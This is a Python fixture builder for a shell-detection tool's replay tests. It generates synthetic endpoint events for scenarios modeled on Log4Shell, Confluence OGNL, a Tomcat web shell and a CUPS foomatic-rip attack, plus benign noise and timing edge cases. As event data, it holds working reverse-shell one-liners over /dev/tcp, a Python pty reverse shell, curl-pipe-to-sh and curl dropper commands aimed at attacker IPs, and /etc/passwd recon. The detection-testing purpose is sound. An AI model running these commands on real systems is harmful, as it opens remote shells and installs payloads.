"""The replay scenario library: ECS events for each scenario under ``tests/replay/scenarios/<name>/``.

``python tests/replay/build_scenarios.py`` rewrites every ``events.ndjson`` and ``description.txt``; a test
checks the committed files are exactly this output. The ``expected.ndjson`` files are written by hand: they
are what each scenario asserts (the rules' semantics, DESIGN §1 and §3), never generated from a run.
Event ids are unique across scenarios, so scenarios can be replayed one after another into one worker.

Each scenario is data: per host, its connections (``Conn``) and process starts (``Exec``), at milliseconds
after ``T0``. The command lines and parent processes that recur are the constants and helpers below.
"""

from __future__ import annotations

import random
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson

from shellwatch.samples.ecs_factory import JAVA, connection, entity_id, execution, file_event

__all__ = ["SCENARIOS", "SCENARIO_DIR", "build_all"]

SCENARIO_DIR = Path(__file__).parent / "scenarios"
T0 = 1_793_527_200_000  # 2026-11-01T10:00:00Z
Doc = dict[str, Any]

# ------------------------------------------------------------------------------- command lines


@dataclass(frozen=True, slots=True)
class Parent:
    """The process that starts a child: its executable and command line."""

    executable: str
    args: list[str]


def java(*args: str) -> Parent:
    return Parent(JAVA, [JAVA, *args])


def tomcat_bootstrap(executable: str, base_option: str, bootstrap_jar: str) -> Parent:
    """A Tomcat started by its bootstrap class (no ``-jar``)."""
    bootstrap = ["-classpath", bootstrap_jar, "org.apache.catalina.startup.Bootstrap", "start"]
    return Parent(executable, [executable, base_option, *bootstrap])


def sh(command: str) -> list[str]:
    return ["/bin/sh", "-c", command]


def reverse_shell(ip: str, port: int) -> list[str]:
    return ["/bin/bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"]


CRON = Parent("/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
CRON_HOURLY = sh("run-parts /etc/cron.hourly")
SSHD = "/usr/sbin/sshd"
SSH_SESSION = Parent(SSHD, ["sshd: deploy@pts/0"])
PYTHON = "/usr/bin/python3.11"
WHOAMI = ["/usr/bin/whoami"]

# ------------------------------------------------------------------------------------- events


@dataclass(frozen=True, slots=True)
class Conn:
    """A network connection by ``executable`` (pid ``pid``), ``ms`` after ``T0``."""

    ms: int
    pid: int
    ip: str
    port: int
    event_id: str
    executable: str = JAVA
    action: str = "connection_attempted"
    started_ms: int | None = None  # when the process was started (its Exec's ms), so both name one entity

    def doc(self, host: str) -> Doc:
        doc = connection(
            ts_ms=T0 + self.ms,
            host_id=host,
            pid=self.pid,
            dest_ip=self.ip,
            dest_port=self.port,
            event_id=self.event_id,
            executable=self.executable,
            action=self.action,
        )
        if self.started_ms is not None:
            doc["process"]["entity_id"] = entity_id(host, self.pid, str(T0 + self.started_ms))
        return doc


@dataclass(frozen=True, slots=True)
class Exec:
    """Process ``pid`` (``name``, command line ``args``) started by ``parent`` (``parent_pid``), ``ms`` after ``T0``."""

    ms: int
    pid: int
    parent_pid: int
    event_id: str
    name: str
    args: list[str]
    parent: Parent

    def doc(self, host: str) -> Doc:
        return execution(
            ts_ms=T0 + self.ms,
            host_id=host,
            pid=self.pid,
            parent_pid=self.parent_pid,
            event_id=self.event_id,
            name=self.name,
            args=self.args,
            parent_executable=self.parent.executable,
            parent_args=self.parent.args,
        )


@dataclass(frozen=True, slots=True)
class FileWrite:
    """Process ``pid`` (``executable``), a child of the process ``parent_pid`` started ``parent_ms`` after ``T0``,
    creates the file ``path``, ``ms`` after ``T0``: an Elastic Defend file event."""

    ms: int
    pid: int
    parent_pid: int
    parent_ms: int
    event_id: str
    path: str
    executable: str

    def doc(self, host: str) -> Doc:
        return file_event(
            ts_ms=T0 + self.ms,
            host_id=host,
            pid=self.pid,
            parent_entity_id=entity_id(host, self.parent_pid, str(T0 + self.parent_ms)),
            event_id=self.event_id,
            path=self.path,
            executable=self.executable,
        )


Event = Conn | Exec | FileWrite


def children(
    parent: Parent,
    parent_pid: int,
    steps: list[tuple[str, str, list[str]]],
    *,
    start_ms: int,
    every_ms: int,
    first_pid: int,
) -> list[Event]:
    """A child process per ``(event_id, name, args)`` step, ``every_ms`` apart, pids counting up from ``first_pid``."""
    return [
        Exec(start_ms + index * every_ms, first_pid + index, parent_pid, event_id, name, args, parent)
        for index, (event_id, name, args) in enumerate(steps)
    ]


@dataclass(frozen=True, slots=True)
class Scenario:
    description: str
    hosts: dict[str, list[Event]]  # each host's events, in the order its endpoint wrote them
    # Elastic's rule files (tests/rules/elastic) the scenario runs beside the bundled rules: copied verbatim into
    # its rules/ directory, which detect and the worker are given as SHELLWATCH_RULES
    rules: tuple[str, ...] = ()

    def docs(self) -> list[Doc]:
        return [event.doc(host) for host, events in self.hosts.items() for event in events]


# ---------------------------------------------------------------------------------- scenarios

LOG4SHELL_APP = java("-Xmx2g", "-jar", "/opt/vuln-app/app.jar")
LOG4SHELL_CALLBACK = Scenario(
    "Log4Shell-style callback: Java -jar fetches over LDAP then HTTP, then bash -i to the attacker",
    {
        "l4s-web-01": [
            Exec(-60_000, 880, 1, "l4s-cron", "sh", CRON_HOURLY, CRON),
            Conn(0, 4100, "45.137.21.9", 1389, "l4s-conn-ldap"),
            Conn(1_200, 4100, "45.137.21.9", 8080, "l4s-conn-http"),
            Exec(2_000, 4177, 4100, "l4s-exec-revshell", "bash", reverse_shell("45.137.21.9", 4444), LOG4SHELL_APP),
        ],
    },
)

CONFLUENCE = tomcat_bootstrap(
    "/opt/atlassian/confluence/jre/bin/java",
    "-Djava.util.logging.config.file=/opt/atlassian/confluence/conf/logging.properties",
    "/opt/atlassian/confluence/bin/bootstrap.jar",
)
CONFLUENCE_OGNL = Scenario(
    "Confluence OGNL RCE (Tomcat bootstrap, no -jar): recon, then a reverse shell",
    {
        "conf-wiki-01": [
            Conn(10_000, 2210, "185.220.101.42", 8090, "conf-conn-ognl", CONFLUENCE.executable, "connection_accepted"),
            Exec(10_400, 2301, 2210, "conf-exec-whoami", "whoami", WHOAMI, CONFLUENCE),
            Exec(11_000, 2302, 2210, "conf-exec-uname", "sh", sh("uname -a"), CONFLUENCE),
            Exec(14_000, 2303, 2210, "conf-exec-revshell", "bash", reverse_shell("185.220.101.42", 443), CONFLUENCE),
        ],
    },
)

TOMCAT = tomcat_bootstrap(JAVA, "-Dcatalina.base=/var/lib/tomcat9", "/usr/share/tomcat9/bin/bootstrap.jar")
TOMCAT_WEBSHELL_RECON = Scenario(
    "Tomcat web shell doing recon (id twice, whoami, uname, cat /etc/passwd)",
    {
        "tomcat-app-07": [
            Conn(20_000, 3001, "91.240.118.172", 8080, "tc-conn-webshell", action="connection_accepted"),
            *children(
                TOMCAT,
                3001,
                [
                    ("tc-exec-id", "sh", sh("id")),
                    ("tc-exec-id-again", "sh", sh("id")),  # same command again: grouped into the first
                    ("tc-exec-whoami", "whoami", WHOAMI),
                    ("tc-exec-uname", "uname", ["/usr/bin/uname", "-a"]),
                    ("tc-exec-passwd", "sh", sh("cat /etc/passwd")),
                ],
                start_ms=21_000,
                every_ms=1_500,
                first_pid=3100,
            ),
        ],
    },
)

JENKINS = java("-Djava.awt.headless=true", "-jar", "/usr/share/java/jenkins.war", "--httpPort=8080")
JENKINS_BUILD_SHELLS = Scenario(
    "Jenkins build shells right after a fetch from a public address: benign and allowlisted",
    {
        "jenkins-ci-02": [
            Conn(30_000, 1500, "140.82.112.3", 443, "jk-conn-github"),
            *children(
                JENKINS,
                1500,
                [
                    ("jk-exec-build", "sh", ["/bin/sh", "-xe", "/tmp/jenkins8123.sh"]),
                    ("jk-exec-mvn", "sh", sh("mvn -B package")),
                    ("jk-exec-ls", "sh", sh("ls -la target")),
                ],
                start_ms=31_000,
                every_ms=700,
                first_pid=1600,
            ),
        ],
    },
)

BATCH = java("-jar", "/opt/batch/batch.jar")
PRIVATE_ONLY = Scenario(
    "Java -jar talks only to private addresses, then runs a shell: sequence silent, shell rule low",
    {
        "batch-svc-03": [
            Conn(40_000, 5100, "10.1.2.3", 5432, "pv-db"),
            Conn(40_500, 5100, "192.168.7.20", 80, "pv-api"),
            Exec(41_000, 5177, 5100, "pv-exec-rotate", "sh", sh("/opt/batch/bin/rotate-logs.sh"), BATCH),
        ],
    },
)

APP = java("-jar", "/opt/app/app.jar")


def gap_pair(gap_ms: int, tag: str) -> list[Event]:
    """A Java connection, then a shell ``gap_ms`` later (the reverse-shell rule's maxspan is 5 s)."""
    return [
        Conn(50_000, 6100, "23.94.5.133", 4444, f"gap-{tag}-conn"),
        Exec(50_000 + gap_ms, 6177, 6100, f"gap-{tag}-exec", "sh", sh("/opt/app/bin/healthcheck.sh"), APP),
    ]


GAP_5001MS = Scenario(
    "Connection and shell 5.001 s apart (no sequence) beside a 5.000 s pair on another host (sequence)",
    {"gap-late-01": gap_pair(5_001, "late"), "gap-edge-01": gap_pair(5_000, "edge")},
)

BENIGN_SERVICES = ["/usr/sbin/nginx", SSHD, PYTHON, "/usr/lib/postgresql/15/bin/postgres"]
REPORT = [PYTHON, "/opt/tools/report.py"]


def benign_noise() -> Scenario:
    """50 hosts x 20 events drawn from a seeded generator: services' and Java's connections, cron and ssh jobs."""
    rng = random.Random(50)
    hosts: dict[str, list[Event]] = {}
    for number in range(50):
        host = f"noise-{number:02d}"
        events: list[Event] = []
        hosts[host] = events
        clock = 60_000 + rng.randrange(0, 1_000)
        for index in range(20):
            clock += rng.randrange(40, 700)
            event_id = f"{host}-{index:02d}"
            roll = rng.random()
            public_ip = (
                f"{rng.choice([34, 52, 104, 151])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            )
            if roll < 0.35:
                events.append(Conn(clock, 700, public_ip, 443, event_id, rng.choice(BENIGN_SERVICES)))
            elif roll < 0.55:
                # Java fetching from a public address, and never spawning anything: a pending first stage only
                events.append(Conn(clock, 4242, public_ip, 443, event_id))
            elif roll < 0.8:
                events.append(Exec(clock, 9000 + index, 880, event_id, "sh", CRON_HOURLY, CRON))
            else:
                events.append(Exec(clock, 9000 + index, 700, event_id, "python3.11", REPORT, SSH_SESSION))
    return Scenario(
        "50 hosts of benign noise (services, Java fetching from public addresses, cron shells): no alert", hosts
    )


# -------------------------------------------------------- scenarios of Elastic's rules (SHELLWATCH_RULES)

SPRING_APP = java("-Xms512m", "-jar", "/srv/orders/orders-service.jar")
ELASTIC_JAVA_REVSHELL = Scenario(
    "Elastic's Potential Reverse Shell via Java: Java -jar connects out, then sh runs a reverse shell",
    {
        "ers-app-01": [
            Conn(70_000, 7100, "194.26.29.113", 443, "ers-conn"),
            Exec(
                72_500,
                7177,
                7100,
                "ers-exec-revshell",
                "sh",
                sh("sh -i >& /dev/tcp/194.26.29.113/443 0>&1"),
                SPRING_APP,
            ),
        ],
        # the same idiom under a build server's war file, which the rule's own exclusions leave out
        "ers-ci-01": [
            Conn(70_200, 7300, "140.82.114.4", 443, "ers-ci-conn"),
            Exec(71_000, 7377, 7300, "ers-ci-exec", "sh", sh("git fetch origin"), JENKINS),
        ],
    },
    rules=("execution_shell_via_java_revshell_linux.toml",),
)

SOLR = Parent(
    "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
    ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-server", "-Dsolr.solr.home=/var/solr/data", "-jar", "start.jar"],
)
ELASTIC_JNDI_LDAP = Scenario(
    "Elastic's Potential JAVA/JNDI Exploitation Attempt: Java reaches LDAP on 1389, then curl pipes to sh",
    {
        "jndi-solr-01": [
            Conn(80_000, 8100, "45.155.205.233", 1389, "jndi-conn-ldap", SOLR.executable),
            Exec(80_900, 8177, 8100, "jndi-exec-curl", "sh", sh("curl -s http://45.155.205.233:8000/x.sh | sh"), SOLR),
        ],
        # LDAP to a directory server, then a child 2 minutes later: past the rule's 1 minute
        "jndi-auth-01": [
            Conn(80_000, 8200, "185.199.108.10", 389, "jndi-auth-ldap", SOLR.executable),
            Exec(200_000, 8277, 8200, "jndi-auth-exec", "sh", sh("/opt/solr/bin/rotate.sh"), SOLR),
        ],
    },
    rules=("execution_suspicious_java_netcon_childproc.toml",),
)

SHELL = Parent("/bin/bash", ["/bin/bash"])
PTY_CODE = "import socket,pty,os;s=socket.socket();s.connect(('91.92.241.10',9001));"
PTY = ["/usr/bin/python3", "-c", PTY_CODE + "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"]
ELASTIC_LOLBIN_REVSHELL = Scenario(
    "Elastic's Potential Reverse Shell via Suspicious Child Process: a shell starts a Python pty, which connects out",
    {
        "lol-web-01": [
            Exec(90_000, 9177, 9100, "lol-exec-pty", "python3", PTY, SHELL),
            Conn(90_300, 9177, "91.92.241.10", 9001, "lol-conn-out", "/usr/bin/python3", started_ms=90_000),
        ],
        # the same Python to loopback only: the rule leaves 127.0.0.0/8 out
        "lol-dev-01": [
            Exec(90_000, 9277, 9200, "lol-dev-pty", "python3", PTY, SHELL),
            Conn(90_400, 9277, "127.0.0.1", 9001, "lol-dev-conn", "/usr/bin/python3", started_ms=90_000),
        ],
    },
    rules=("execution_shell_via_lolbin_interpreter_linux.toml",),
)

FOOMATIC = Parent("/usr/lib/cups/filter/foomatic-rip", ["foomatic-rip", "142", "lp", "job", "1", ""])
DROPPER = sh("curl -so /tmp/.cupsd http://45.155.205.233/x && chmod +x /tmp/.cupsd")
ELASTIC_CUPSD_FILE = Scenario(
    "Elastic's File Creation by Cups or Foomatic-rip Child: a crafted print job makes foomatic-rip start a shell, "
    "whose curl writes a file (a file event, read from the file topic)",
    {
        "cups-print-01": [
            Exec(100_000, 9301, 9300, "cups-exec-sh", "sh", DROPPER, FOOMATIC),
            FileWrite(100_700, 9302, 9301, 100_000, "cups-file-drop", "/tmp/.cupsd", "/usr/bin/curl"),
        ],
        # Ghostscript writing its temporary file under the shell: the rule's own exclusion
        "cups-print-02": [
            Exec(100_000, 9401, 9400, "cups-gs-sh", "sh", sh("gs -q -sDEVICE=pdfwrite"), FOOMATIC),
            FileWrite(100_500, 9402, 9401, 100_000, "cups-gs-file", "/tmp/gs_ab12", "/usr/bin/gs"),
        ],
        # the file 12 s after the shell: past the rule's maxspan of 10 s
        "cups-print-03": [
            Exec(100_000, 9501, 9500, "cups-late-sh", "sh", DROPPER, FOOMATIC),
            FileWrite(112_000, 9502, 9501, 100_000, "cups-late-file", "/tmp/.cupsd", "/usr/bin/curl"),
        ],
    },
    rules=("execution_cupsd_foomatic_rip_file_creation.toml",),
)

SCENARIOS: dict[str, Scenario] = {
    "log4shell-callback": LOG4SHELL_CALLBACK,
    "confluence-ognl": CONFLUENCE_OGNL,
    "tomcat-webshell-recon": TOMCAT_WEBSHELL_RECON,
    "jenkins-build-shells": JENKINS_BUILD_SHELLS,
    "private-only": PRIVATE_ONLY,
    "gap-5001ms": GAP_5001MS,
    "benign-noise-50-hosts": benign_noise(),
    "elastic-java-revshell": ELASTIC_JAVA_REVSHELL,
    "elastic-jndi-ldap": ELASTIC_JNDI_LDAP,
    "elastic-lolbin-revshell": ELASTIC_LOLBIN_REVSHELL,
    "elastic-cupsd-file": ELASTIC_CUPSD_FILE,
}
VENDORED = Path(__file__).parents[1] / "rules" / "elastic"


def _ordered(docs: list[Doc]) -> list[Doc]:
    """Time order (stable), as one endpoint writes its events."""
    return sorted(docs, key=lambda d: str(d["@timestamp"]))


def rendered(name: str) -> tuple[bytes, bytes]:
    """(description.txt, events.ndjson) of a scenario, as committed."""
    scenario = SCENARIOS[name]
    events = b"".join(orjson.dumps(doc) + b"\n" for doc in _ordered(scenario.docs()))
    return scenario.description.encode() + b"\n", events


def build_all() -> None:
    for name, scenario in SCENARIOS.items():
        directory = SCENARIO_DIR / name
        directory.mkdir(parents=True, exist_ok=True)
        description, events = rendered(name)
        (directory / "description.txt").write_bytes(description)
        (directory / "events.ndjson").write_bytes(events)
        for rule in scenario.rules:
            (directory / "rules").mkdir(exist_ok=True)
            (directory / "rules" / rule).write_bytes((VENDORED / rule).read_bytes())
        count = len(events.splitlines())
        sys.stderr.write(f"{name}: {count} events\n")


if __name__ == "__main__":
    build_all()
